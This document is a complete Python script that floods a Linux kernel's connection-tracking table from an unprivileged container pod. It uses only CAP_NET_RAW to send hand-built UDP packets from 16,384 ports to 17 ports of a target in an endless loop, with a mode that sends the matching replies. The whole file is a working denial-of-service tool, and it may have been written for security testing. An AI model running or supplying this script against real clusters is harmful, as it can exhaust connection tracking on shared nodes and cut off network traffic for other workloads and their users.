"""A pod without any right but CAP_NET_RAW, which containers have by default, that fills the table of connections.

`conntrack_flood.py FROM TO DIRECTION`, standard library only: sends a UDP packet from each of 16,384 ports to each of
17 of TO, again and again until it is killed; prints "ROUND" after each round. With DIRECTION "back" it sends the
answers. So every connection is in use, and the kernel gives none of them up.
"""

from __future__ import annotations

import socket
import struct
import sys

PORTS, FIRST, TO_PORTS, FIRST_TO = 16_384, 1024, 17, 20_000


def packets(source: bytes, to: bytes, *, back: bool) -> list[bytes]:
    """IPv4 packets with a header of their own; the kernel fills in its checksum."""
    head = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 29, 0, 0, 64, socket.IPPROTO_UDP, 0, source, to)
    made = []
    for far in range(FIRST_TO, FIRST_TO + TO_PORTS):
        for near in range(FIRST, FIRST + PORTS):
            made.append(head + struct.pack(">HHHHc", *((far, near) if back else (near, far)), 9, 0, b"x"))
    return made


def main() -> None:
    source, to, direction = sys.argv[1:]
    every = packets(socket.inet_aton(source), socket.inet_aton(to), back=direction == "back")
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as channel:
        print("READY", flush=True)
        while True:
            for one in every:
                try:
                    channel.sendto(one, (to, 0))
                except OSError:  # dropped on the way
                    continue
            print("ROUND", flush=True)


if __name__ == "__main__":
    main()
